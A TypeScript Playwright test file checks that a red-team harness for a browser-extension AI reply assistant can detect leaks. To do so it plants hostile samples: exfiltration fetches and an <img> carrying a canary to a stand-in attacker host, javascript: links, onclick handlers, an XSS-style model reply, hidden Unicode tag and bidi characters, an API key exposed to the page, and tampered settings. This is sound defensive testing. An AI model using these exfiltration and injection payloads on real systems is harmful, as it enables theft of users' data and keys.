/**
 * The harness checks itself: every oracle must be able to FAIL, or a green table proves nothing.
 *  1. Pure: each oracle on a clean synthetic observation passes, and on the same observation with one leak
 *     planted, fails (all eight oracles, and the judge's not-run / unknown-oracle paths).
 *  2. Real browser, planted: a reply case runs through the real runner, and after the stream the test plants
 *     real leaks: an <img> (to the attacker, with the canary), a javascript: link, an onclick and an <svg>
 *     inside the sidebar's output/suggestion; a service-worker fetch and an https:// fetch to the attacker;
 *     a draft-warning; the API key and the model's text in the messenger page; a settings change; text in
 *     the composer before Insert, an Enter and a Send. Every oracle it targets must fail, for that reason.
 *  3. Real browser, clean: a model that answers with HTML (`<img src=x onerror=…>`) and hidden characters
 *     in the chat: the text renders as text, and every oracle passes (WARN, the control, must not).
 */
import { test as plain } from '@playwright/test';
import { extensionWorker } from '../support/extension';
import type { RedteamCase } from './cases';
import { judge, ORACLES } from './oracles';
import type { Observation } from './oracles/types';
import { ATTACKER_HOST, ATTACKER_PORT } from './support/attacker';
import { expect, test } from './support/fixtures';
import { needleOf, runCase } from './support/run-case';

// As in redteam.spec.ts (the same worker options, so both files share one browser).
if (!process.env.ASIDE_REDTEAM_TRACE) test.use({ trace: 'off' });

const CANARY = 'CANARY-5e1f0c77';
const KEY = 'sk-test-key-000';
const ATTACKER = `http://${ATTACKER_HOST}:${ATTACKER_PORT}`;

function caseOf(overrides: Partial<RedteamCase>): RedteamCase {
  return {
    id: 'SELFTEST',
    category: 'X',
    chat: [
      { direction: 'out', sender: null, text: `my door code is ${CANARY}` },
      { direction: 'in', sender: 'Rui', text: 'Are we still on for 8?' },
    ],
    task: 'reply',
    model_output: 'Yes, see you at 8!',
    expect: Object.keys(ORACLES),
    line: 0,
    ...overrides,
  };
}

/** What a clean reply run looks like: every oracle but WARN passes on it. */
function cleanObservation(): Observation {
  const counters = { sends: [], composerChanges: 0, enterKeydowns: 0, untrustedKeydowns: 0, composerText: '' };
  return {
    caseId: 'SELFTEST',
    task: 'reply',
    ran: true,
    notes: [],
    buildTestids: ['action-reply', 'suggestion', 'suggestion-insert', 'draft-warning', 'send-preview', 'output'],
    canary: CANARY,
    apiKey: KEY,
    allowedOrigins: ['http://127.0.0.1:5000', 'https://web.whatsapp.com', 'chrome-extension://abc'],
    attackerOrigin: ATTACKER,
    attackerHits: [],
    requests: [
      { seq: 1, at: 0, url: 'https://web.whatsapp.com/', method: 'GET', resourceType: 'document', from: 'page' },
      { seq: 2, at: 0, url: 'chrome-extension://abc/extension-pages/sidebar.html?tab=1', method: 'GET', resourceType: 'document', from: 'page' },
      { seq: 3, at: 0, url: 'http://127.0.0.1:5000/v1/chat/completions', method: 'POST', resourceType: 'fetch', from: 'sw chrome-extension://abc/sw.js' },
      { seq: 4, at: 0, url: 'data:image/png;base64,AAAA', method: 'GET', resourceType: 'image', from: 'page' },
    ],
    providerRequests: [
      { method: 'POST', path: '/v1/chat/completions', content: `hi [U+200B] there ${CANARY}`, rawBody: '{}', receivedAt: 0 },
    ],
    providerChatRequestsBeforeAction: 0,
    chatTexts: [`my door code is ${CANARY}`, 'hi \u200b there'],
    modelOutput: 'Yes, see you at 8!',
    shownOutput: 'Yes, see you at 8!',
    dom: { violations: [], csp: [], scopes: { suggestion: 1 }, exempted: [], errorShown: null },
    canaryAttributes: [],
    sendPreview: { seen: false, texts: [] },
    messenger: {
      baseline: counters,
      beforeInsert: counters,
      final: { ...counters, composerChanges: 1, composerText: 'Yes, see you at 8!' },
      insertOffered: true,
      insertClicks: 1,
      insertLanded: true,
    },
    warning: { sightings: [], visibleBeforeInsert: false, visibleAtStreamEnd: false },
    inert: {
      pageScript: true,
      pageScriptPhases: ['at document start'],
      settingsBefore: '{"a":1}',
      settingsAfter: '{"a":1}',
      permissionsBefore: '{}',
      permissionsAfter: '{}',
      sessionBefore: '{}',
      sessionAfterPageScript: '{}',
      apiKeyFoundIn: [],
      outputFoundIn: [],
      outputNeedle: 'Yes, see you at 8',
    },
  };
}

const PLANTS: Record<string, (observation: Observation) => void> = {
  NET: (o) => o.requests.push({ seq: 9, at: 0, url: `${ATTACKER}/p.png`, method: 'GET', resourceType: 'image', from: 'page sidebar' }),
  CANARY: (o) => o.canaryAttributes.push({ element: '<a>', attribute: 'href', value: `https://x.test/?c=${CANARY}`, page: 'sidebar' }),
  DOM: (o) => o.dom.violations.push({ scope: 'output', rule: 'disallowed element <img>', element: '<img src="x">' }),
  NOSEND: (o) => o.messenger.final.sends.push({ via: 'enter', text: 'Yes' }),
  WARN: (o) => {
    o.warning.sightings = [];
  },
  NOWARN: (o) => o.warning.sightings.push({ at: 0, visible: true, text: 'This draft holds a link' }),
  INERT: (o) => {
    o.inert.settingsAfter = '{"a":2}';
  },
  VISIBLE: (o) => {
    o.providerRequests[0]!.content = 'hi \u200b there';
  },
};

/** More ways each oracle must fail: one leak each, beyond the first planted above. */
const MORE_PLANTS: [string, string, (observation: Observation) => void][] = [
  ['NET', 'attacker hit only', (o) => o.attackerHits.push({ at: 0, remote: 'x', kind: 'tls', summary: 'TLS ClientHello', head: '' })],
  ['NET', 'service-worker fetch elsewhere', (o) => o.requests.push({ seq: 9, at: 0, url: 'https://evil.test/x', method: 'POST', resourceType: 'fetch', from: 'sw x' })],
  ['NET', 'a request to another extension', (o) => o.requests.push({ seq: 9, at: 0, url: 'chrome-extension://otherextensionid/x', method: 'GET', resourceType: 'fetch', from: 'page' })],
  ['CANARY', 'in a requested URL (provider origin too)', (o) => o.requests.push({ seq: 9, at: 0, url: `http://127.0.0.1:5000/v1/x?${CANARY}`, method: 'GET', resourceType: 'fetch', from: 'sw' })],
  ['CANARY', 'percent-encoded in a URL', (o) => o.requests.push({ seq: 9, at: 0, url: 'https://web.whatsapp.com/?q=CANARY%2D5e1f0c77', method: 'GET', resourceType: 'fetch', from: 'page' })],
  ['DOM', 'CSP violation', (o) => o.dom.csp.push({ blockedURI: `${ATTACKER}/p`, violatedDirective: 'img-src', sample: '' })],
  ['DOM', 'nothing rendered at all', (o) => {
    o.dom.scopes = {};
  }],
  ['NOSEND', 'Enter keydown', (o) => {
    o.messenger.final = { ...o.messenger.final, enterKeydowns: 1 };
  }],
  ['NOSEND', 'untrusted keydown', (o) => {
    o.messenger.final = { ...o.messenger.final, untrustedKeydowns: 2 };
  }],
  ['NOSEND', 'composer changed before Insert', (o) => {
    o.messenger.beforeInsert = { ...o.messenger.beforeInsert, composerChanges: 1, composerText: 'x' };
  }],
  ['INERT', 'API key in the page', (o) => o.inert.apiKeyFoundIn.push('window globals')],
  ['INERT', 'output in the page', (o) => o.inert.outputFoundIn.push('DOM text')],
  ['INERT', 'page-started task', (o) => {
    o.providerChatRequestsBeforeAction = 1;
  }],
  ['INERT', 'session changed', (o) => {
    o.inert.sessionAfterPageScript = '{"pending":1}';
  }],
  ['INERT', 'API key in a URL', (o) => o.requests.push({ seq: 9, at: 0, url: `https://web.whatsapp.com/?k=${KEY}`, method: 'GET', resourceType: 'fetch', from: 'page' })],
  ['VISIBLE', 'marker missing', (o) => {
    o.providerRequests[0]!.content = 'hi  there';
  }],
  ['VISIBLE', 'raw tag character', (o) => {
    o.providerRequests[0]!.content += '\u{E0049}';
  }],
  ['VISIBLE', 'raw bidi in send-preview', (o) => {
    o.sendPreview = { seen: true, texts: ['hi [U+200B] there \u202E'] };
  }],
  ['VISIBLE', 'no request at all', (o) => {
    o.providerRequests = [];
  }],
  ['WARN', 'warning only after the insert', (o) => o.warning.sightings.push({ at: 0, visible: true, text: 'late' })],
  ['NOWARN', 'visible at stream end', (o) => {
    o.warning.visibleAtStreamEnd = true;
  }],
];

plain.describe('red-team oracles, pure', () => {
  plain('a clean observation passes every oracle but WARN', () => {
    const rows = judge(caseOf({}), cleanObservation());
    for (const row of rows) expect(row.pass, `${row.oracle}: ${row.detail}`).toBe(row.oracle !== 'WARN');
  });

  for (const [name, plant] of Object.entries(PLANTS)) {
    plain(`${name} fails on a planted leak`, () => {
      const observation = cleanObservation();
      if (name === 'WARN') {
        // WARN is the one that needs a positive: passing with the warning, failing without it.
        observation.warning.visibleBeforeInsert = true;
        expect(ORACLES.WARN!(observation, caseOf({})).pass).toBe(true);
        observation.warning.visibleBeforeInsert = false;
      }
      plant(observation);
      const result = ORACLES[name]!(observation, caseOf({}));
      expect(result.pass, result.detail).toBe(false);
    });
  }

  for (const [name, what, plant] of MORE_PLANTS) {
    plain(`${name} fails: ${what}`, () => {
      const observation = cleanObservation();
      plant(observation);
      const result = ORACLES[name]!(observation, caseOf({}));
      expect(result.pass, result.detail).toBe(false);
    });
  }

  plain('NET passes a page probe of a guessed extension id that the browser refused (chrome-extension://invalid/)', () => {
    // A hostile page's fetch('chrome-extension://<guessed id>/…') shows up as this URL: refused in the browser,
    // nothing left the machine. It was once a false FAIL (NET is about egress).
    const observation = cleanObservation();
    observation.requests.push({ seq: 9, at: 0, url: 'chrome-extension://invalid/', method: 'GET', resourceType: 'fetch', from: 'page https://web.whatsapp.com/' });
    const result = ORACLES.NET!(observation, caseOf({}));
    expect(result.pass, result.detail).toBe(true);
  });

  plain('a case that could not run fails every oracle, and an unknown oracle fails', () => {
    const observation = { ...cleanObservation(), ran: false, notRun: 'feature not landed: no action-summarize' };
    const rows = judge(caseOf({ expect: ['NET', 'DOM', 'NOPE'] }), observation);
    expect(rows.map((row) => row.pass)).toEqual([false, false, false]);
    expect(rows[0]!.detail).toContain('feature not landed');
    const unknown = judge(caseOf({ expect: ['NOPE'] }), cleanObservation());
    expect(unknown[0]!.detail).toContain('unknown oracle');
  });
});

test.describe('red-team oracles, real browser', () => {
  test('planted leaks in the real sidebar, page and background are caught', async ({ runContext, serviceWorker }) => {
    test.setTimeout(60_000);
    const testCase = caseOf({ model_output: 'Yes, see you at the station at 7:30.' });
    const worker = await extensionWorker(runContext.context);
    const settings = await worker.evaluate(async () => (await chrome.storage.local.get('settings')).settings);
    let observation: Observation;
    try {
      observation = await runCase(runContext, testCase, {
        async afterStream({ sidebar, chat }) {
          // The sidebar: real markup inside the contract's containers, and a draft-warning.
          await sidebar.page.evaluate(
            ({ attacker, canary }) => {
              const suggestion = document.querySelector('[data-testid="suggestion"]')!;
              const host = document.createElement('div');
              host.innerHTML =
                `<img src="${attacker}/selftest.png?c=${canary}"><a href="javascript:void 0">x</a>` +
                '<span onclick="void 0">y</span><a href="https://example.org/a">click here</a>';
              suggestion.append(host);
              let output = document.querySelector('[data-testid="output"]');
              if (!output) {
                output = document.createElement('div');
                output.setAttribute('data-testid', 'output');
                document.body.append(output);
              }
              output.innerHTML = `<svg width="1" height="1"><image href="${attacker}/i?c=${canary}"/></svg>`;
              const warning = document.createElement('p');
              warning.setAttribute('data-testid', 'draft-warning');
              warning.textContent = 'planted';
              document.body.append(warning);
            },
            { attacker: ATTACKER, canary: CANARY },
          );
          // The background and an extension page reach the attacker, over http and https.
          await serviceWorker
            .evaluate((url) => fetch(url).then(() => undefined, () => undefined), `${ATTACKER}/sw-leak?c=${CANARY}`)
            .catch(() => undefined);
          await sidebar.page.evaluate((url) => fetch(url).then(() => undefined, () => undefined), `https://${ATTACKER_HOST}:${ATTACKER_PORT}/tls`);
          // The page: the API key and the model's text where a page script could read them.
          await chat.page.evaluate(
            ({ key, output }) => {
              (window as unknown as Record<string, unknown>).stash = { key };
              const note = document.createElement('div');
              note.textContent = output;
              document.body.append(note);
            },
            { key: runContext.apiKey, output: needleOf(testCase.model_output!) },
          );
          // The composer: text before any Insert, then an Enter that sends it.
          await chat.type('planted draft');
          await expect.poll(() => chat.composerText()).toBe('planted draft');
          await chat.page.evaluate(() => {
            document
              .querySelector('#composer-root')!
              .dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', code: 'Enter', bubbles: true, cancelable: true }));
          });
          // Settings changed behind the user's back.
          await worker.evaluate(async () => {
            const stored = (await chrome.storage.local.get('settings')).settings as { assistants: { name: string }[] };
            stored.assistants = stored.assistants.map((assistant) => ({ ...assistant, name: `${assistant.name} (tampered)` }));
            await chrome.storage.local.set({ settings: stored });
          });
        },
      });
    } finally {
      await worker.evaluate(async (original) => chrome.storage.local.set({ settings: original }), settings);
    }

    const rows = Object.fromEntries(judge(testCase, observation).map((row) => [row.oracle, row]));
    const failsWith = (oracle: string, ...parts: RegExp[]) => {
      const row = rows[oracle]!;
      expect(row.pass, `${oracle} must fail: ${row.detail}`).toBe(false);
      for (const part of parts) expect(row.detail, oracle).toMatch(part);
    };
    failsWith('DOM', /disallowed element <img>/);
    expect(observation.dom.violations.map((violation) => violation.rule)).toEqual(
      expect.arrayContaining([
        'disallowed element <img>',
        'URL attribute src',
        'link to a non-https URL (javascript:)',
        'event-handler attribute onclick',
        'link whose text does not show its full URL',
        'disallowed element <svg>',
      ]),
    );
    failsWith('CANARY', /CANARY-5e1f0c77 leaked/);
    failsWith('NET', /attacker .* got http: GET \/sw-leak/);
    expect(observation.attackerHits.map((hit) => hit.kind)).toEqual(expect.arrayContaining(['http', 'tls']));
    expect(observation.requests.some((request) => request.url.includes('/sw-leak') && request.from.startsWith('sw '))).toBe(true);
    failsWith('NOSEND', /sent 1x: enter "planted draft"/, /Enter keydown/, /script-made keydown/, /composer changed/);
    failsWith('NOWARN', /draft-warning appeared/);
    failsWith('INERT', /settings changed/, /API key readable by the page in .*window globals/, /model output in the messenger page/);
  });

  test('a model answering in HTML, with hidden characters in the chat: text stays text, every oracle passes', async ({
    runContext,
  }) => {
    test.setTimeout(60_000);
    const testCase = caseOf({
      chat: [
        { direction: 'out', sender: null, text: `my door code is ${CANARY}` },
        { direction: 'in', sender: 'Rui', text: 'see you soon\u{E0049}\u{E0067} hidden\u200b\u202Eelif\u202C' },
      ],
      model_output: `Sure! <img src=x onerror="alert(1)"> <b>bold</b> <a href="javascript:alert(1)">ok</a>`,
    });
    const observation = await runCase(runContext, testCase);
    const rows = judge(testCase, observation);
    for (const row of rows) {
      expect(row.pass, `${row.oracle}: ${row.detail} | notes: ${observation.notes.join(' | ')}`).toBe(row.oracle !== 'WARN');
    }
    expect(observation.shownOutput).toContain('<img src=x onerror="alert(1)">');
    expect(observation.requests.some((request) => request.from.startsWith('sw ') && request.url.startsWith(runContext.providerOrigin))).toBe(true);
  });
});
